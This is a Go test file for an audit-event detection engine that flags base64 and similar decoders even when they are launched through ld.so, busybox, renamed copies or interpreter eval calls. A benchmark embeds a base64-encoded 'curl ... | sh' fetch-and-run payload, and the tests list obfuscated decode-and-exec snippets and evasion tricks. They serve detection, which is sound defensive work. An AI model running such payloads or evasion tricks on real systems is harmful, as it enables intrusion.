package detect

import (
	"encoding/base64"
	"reflect"
	"strings"
	"testing"

	"github.com/encwatch/encwatch/audit"
)

// buildIDFiles is a Files that knows build ids by path and no hashes.
type buildIDFiles map[string]string

func (f buildIDFiles) Identify(ev *audit.Event, sizes []int64) ([]FileID, Lookup) {
	if id, ok := f[ev.Exe]; ok {
		return []FileID{{BuildID: id}}, Known
	}
	return nil, Known
}

// kernelEvent is an exec event shaped as the kernel reports it: exe the
// resolved file, PATH item 0 the file named in the call, item 1 the ELF
// interpreter.
func kernelEvent(exe, named string, argv ...string) *audit.Event {
	ev := execEvent(exe, argv...)
	ev.Cwd = "/home/u"
	ev.Paths = []audit.Path{
		{Item: 0, Name: named, Dev: "fe:00", Inode: 1001, Mode: 0o100755, Nametype: "NORMAL"},
		{Item: 1, Name: "/lib64/ld-linux-x86-64.so.2", Dev: "fe:00", Inode: 325835, Mode: 0o100755, Nametype: "NORMAL"},
	}
	return ev
}

func TestLauncherView(t *testing.T) {
	p := mustCompile(t, PolicySpec{Signatures: []SignatureSpec{encoderSpec}})
	e := NewEngine(p, "h", fixedNow)
	const ld = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
	for _, tt := range []struct {
		name string
		ev   *audit.Event
		want []string
	}{
		{"ld.so runs base64", kernelEvent(ld, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "/usr/bin/base64", "-d"), []string{"data_encoder_exec"}},
		{"ld.so options first", kernelEvent(ld, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "--library-path", "/tmp", "--argv0", "x", "/usr/bin/base64", "--decode"), []string{"data_encoder_exec"}},
		{"ld.so relative program", kernelEvent(ld, "ld.so", "ld.so", "./base64", "-d"), []string{"data_encoder_exec"}},
		{"ld.so --list is ldd", kernelEvent(ld, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "--list", "/usr/bin/base64"), nil},
		{"ld.so runs ls", kernelEvent(ld, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "/usr/bin/ls", "-d"), nil},
		{"busybox copy under its prefix", kernelEvent("/tmp/busybox-x", "/tmp/busybox-x", "/tmp/busybox-x", "base64", "-d"), []string{"data_encoder_exec"}},
		{"toybox", kernelEvent("/usr/bin/toybox", "toybox", "toybox", "base64", "-d"), []string{"data_encoder_exec"}},
		{"busybox applet link", kernelEvent("/usr/bin/busybox", "/usr/bin/base64", "base64", "-d"), []string{"data_encoder_exec"}},
		{"busybox ls", kernelEvent("/usr/bin/busybox", "busybox", "busybox", "ls", "base64"), nil},
		{"exec -a on the real tool", kernelEvent("/usr/bin/base64", "/usr/bin/base64", "innocent", "-d"), []string{"data_encoder_exec"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := e.Evaluate(tt.ev)
			if !reflect.DeepEqual(names(got), tt.want) {
				t.Fatalf("Evaluate(%q) = %v, want %v", tt.ev.Argv, names(got), tt.want)
			}
			if len(got) > 0 && got[0].Event != tt.ev {
				t.Errorf("alert carries %+v, want the event as the kernel reported it", got[0].Event.Argv)
			}
		})
	}
}

// TestRenamedByBuildID: a copy of base64 with bytes appended (new inode,
// size and SHA-256) is recognised by its build id, also run through ld.so.
func TestRenamedByBuildID(t *testing.T) {
	p := mustCompile(t, PolicySpec{
		Signatures: []SignatureSpec{encoderSpec, {Name: "renamed", Importance: High, Conditions: Conditions{attrRenamedEncoder: true}}},
		Encoders:   []EncoderIdentity{{Name: "base64", Path: "/usr/bin/base64", Dev: "fe:01", Inode: 77, Size: 10, SHA256: "abc", BuildID: "204f8e84"}},
	})
	e := NewEngine(p, "h", fixedNow)
	e.SetFiles(buildIDFiles{"/tmp/notes": "204f8e84", "/usr/bin/ls": "99"})
	const ld = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
	for _, tt := range []struct {
		ev   *audit.Event
		want []string
	}{
		{kernelEvent("/tmp/notes", "/tmp/notes", "/tmp/notes", "-d"), []string{"data_encoder_exec", "renamed"}},
		{kernelEvent(ld, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "/tmp/notes", "-d"), []string{"data_encoder_exec", "renamed"}},
		{kernelEvent("/usr/bin/ls", "/usr/bin/ls", "ls", "-l"), nil},
	} {
		if got := names(e.Evaluate(tt.ev)); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Evaluate(%q) = %v, want %v", tt.ev.Argv, got, tt.want)
		}
	}
}

// TestDecodeCalls covers each interpreter's standard-library decoders, and
// the decompress/rot13 calls that count only with something that runs code.
func TestDecodeCalls(t *testing.T) {
	for _, tt := range []struct {
		code string
		want string // encoding, "" for none
	}{
		{"base64.b85decode(x)", "base85"},
		{"base64.a85decode(x)", "base85"},
		{"base64.urlsafe_b64decode(x)", "base64"},
		{"binascii.a2b_uu(x)", "uu"},
		{"binascii.a2b_qp(x)", "qp"},
		{"codecs.decode(x, 'base64')", "base64"},
		{"codecs.decode(x, 'hex')", "hex"},
		{"exec(codecs.decode(x, 'rot13'))", "rot13"},
		{"print(codecs.encode(x, 'rot13'))", ""},
		{"bytes.fromhex(x)", "hex"},
		{"exec(zlib.decompress(x))", "compressed"},
		{"print(len(zlib.decompress(x)))", ""},
		{`print unpack("u", $x)`, "uu"},
		{`eval unpack("m", $x)`, "base64"},
		{`eval pack("H*", $x)`, "hex"},
		{"eval(atob(x))", "base64"},
		{"eval(Buffer.from(x,'base64url').toString())", "base64"},
		{"eval(x.unpack1('m0'))", "base64"},
		{"eval(gzinflate($x));", "compressed"},
		{`eval(str_rot13($x));`, "rot13"},
		{"eval [binary decode base64 $x]", "base64"},
		{"print(base64.b64encode(x))", ""},
	} {
		var got string
		if cs := decodeCalls(tt.code); len(cs) > 0 {
			got = cs[0].encoding
		}
		if got != tt.want {
			t.Errorf("decodeCalls(%q) = %q, want %q", tt.code, got, tt.want)
		}
	}
}

func decoyBlobs(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = base64.StdEncoding.EncodeToString([]byte(strings.Repeat("decoy text, nothing to see here ", 4)))
	}
	return out
}

// BenchmarkInspectDecoys inspects a 2 MB argv with 10,000 decoy blobs in
// front of the payload: time is linear in the argv's length.
func BenchmarkInspectDecoys(b *testing.B) {
	payload := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"))
	argv := append([]string{"echo"}, decoyBlobs(10000)...)
	for n := 0; n < 2<<20; {
		argv = append(argv, strings.Repeat("p", 4096))
		n += 4096 + 180
	}
	argv = append(argv, payload)
	b.SetBytes(int64(len(strings.Join(argv, " "))))
	b.ReportAllocs()
	for b.Loop() {
		pi := inspect(argv, "echo")
		if _, ok := pi.blob([]string{"shebang"}, nil); !ok {
			b.Fatal("payload behind the decoys not found")
		}
	}
}

// pendingFiles answers Pending for a file until it is marked read, then
// its SHA-256.
type pendingFiles struct {
	sums map[string]string
	read map[*audit.Event]bool
}

func (f *pendingFiles) Identify(ev *audit.Event, sizes []int64) ([]FileID, Lookup) {
	s, ok := f.sums[ev.Exe]
	if !ok {
		return nil, Known
	}
	if !f.read[ev] {
		return nil, Pending
	}
	return []FileID{{SHA256: s}}, Known
}

// TestReevaluate: an event whose file identity is pending raises what its
// names give at once, and what its identity gives when Files hands it back,
// each alert once.
func TestReevaluate(t *testing.T) {
	p := mustCompile(t, PolicySpec{
		Signatures: []SignatureSpec{encoderSpec, {Name: "renamed", Importance: High, Conditions: Conditions{attrRenamedEncoder: true}}},
		Encoders:   []EncoderIdentity{{Name: "base64", Path: "/usr/bin/base64", Dev: "fe:01", Inode: 77, Size: 10, SHA256: "abc"}},
	})
	files := &pendingFiles{sums: map[string]string{"/tmp/x": "abc", "/usr/bin/base64": "abc"}, read: map[*audit.Event]bool{}}
	e := NewEngine(p, "h", fixedNow)
	e.SetFiles(files)
	for _, tt := range []struct {
		ev          *audit.Event
		first, then []string
	}{
		{execEvent("/tmp/x", "x", "-d"), nil, []string{"data_encoder_exec", "renamed"}},
		{execEvent("/usr/bin/base64", "base64", "-d"), []string{"data_encoder_exec"}, nil},
		{execEvent("/usr/bin/ls", "ls"), nil, nil},
	} {
		if got := names(e.Evaluate(tt.ev)); !reflect.DeepEqual(got, tt.first) {
			t.Errorf("Evaluate(%s) = %v, want %v", tt.ev.Exe, got, tt.first)
		}
		files.read[tt.ev] = true
		if got := names(e.Reevaluate(tt.ev)); !reflect.DeepEqual(got, tt.then) {
			t.Errorf("Reevaluate(%s) = %v, want %v", tt.ev.Exe, got, tt.then)
		}
		if got := e.Reevaluate(tt.ev); got != nil {
			t.Errorf("second Reevaluate(%s) = %v, want nil", tt.ev.Exe, names(got))
		}
	}
}

// answerFiles answers Pending for an event until it is marked read, then
// the id it was given for the event's exe.
type answerFiles struct {
	ids  map[string]FileID
	read map[*audit.Event]bool
}

func (f *answerFiles) Identify(ev *audit.Event, sizes []int64) ([]FileID, Lookup) {
	id, ok := f.ids[ev.Exe]
	if !ok {
		return nil, Known
	}
	if !f.read[ev] {
		return nil, Pending
	}
	return []FileID{id}, Known
}

// TestUnidentifiedAndCodeIdentity: a copy with a doctored build id is
// known by its executable code; a user's file that could not be read
// raises unidentified_exec once it is back, and a root-owned one, or one
// that was read, does not.
func TestUnidentifiedAndCodeIdentity(t *testing.T) {
	p := mustCompile(t, PolicySpec{
		Signatures: []SignatureSpec{encoderSpec,
			{Name: "renamed", Importance: High, Conditions: Conditions{attrRenamedEncoder: true}},
			{Name: "unidentified", Importance: Medium, Conditions: Conditions{attrUnidentifiedExec: true}}},
		Encoders: []EncoderIdentity{{Name: "base64", Path: "/usr/bin/base64", Dev: "fe:01", Inode: 77, Size: 10, SHA256: "abc",
			BuildID: "b1d", Text: "c0de", TextSize: 4}},
	})
	gone := FileID{Unread: "it was gone", Dev: "fe:00", Inode: 5}
	files := &answerFiles{ids: map[string]FileID{
		"/tmp/patched": {BuildID: "0ther", Text: "c0de"},
		"/tmp/gone":    gone,
		"/usr/bin/old": gone,
		"/tmp/true":    {BuildID: "7rue"},
	}, read: map[*audit.Event]bool{}}
	e := NewEngine(p, "h", fixedNow)
	e.SetFiles(files)
	withPath := func(ev *audit.Event, ouid uint32, mode uint32) *audit.Event {
		ev.Paths = []audit.Path{{Name: ev.Exe, Dev: "fe:00", Inode: 5, Mode: mode, OUID: ouid, Nametype: "NORMAL"}}
		return ev
	}
	for _, tt := range []struct {
		ev     *audit.Event
		then   []string
		reason string
	}{
		{withPath(execEvent("/tmp/patched", "patched", "-d"), 65534, 0o100755), []string{"data_encoder_exec", "renamed"}, "same executable code"},
		{withPath(execEvent("/tmp/gone", "gone", "-d"), 65534, 0o100755), []string{"unidentified"}, "owned by uid 65534 could not be identified: it was gone"},
		{withPath(execEvent("/usr/bin/old", "old"), 0, 0o100755), nil, ""},
		{withPath(execEvent("/usr/bin/old", "old"), 0, 0o100777), []string{"unidentified"}, "writable by others"},
		{withPath(execEvent("/tmp/true", "true"), 65534, 0o100755), nil, ""},
	} {
		if got := e.Evaluate(tt.ev); got != nil {
			t.Errorf("Evaluate(%s) = %v, want nothing before the lookup is back", tt.ev.Exe, names(got))
		}
		files.read[tt.ev] = true
		got := e.Reevaluate(tt.ev)
		if !reflect.DeepEqual(names(got), tt.then) {
			t.Errorf("Reevaluate(%s) = %v, want %v", tt.ev.Exe, names(got), tt.then)
			continue
		}
		if len(got) > 0 && !strings.Contains(got[len(got)-1].Matches[len(got[len(got)-1].Matches)-1].Reason, tt.reason) {
			t.Errorf("Reevaluate(%s) reasons = %+v, want one saying %q", tt.ev.Exe, got[len(got)-1].Matches, tt.reason)
		}
	}
}
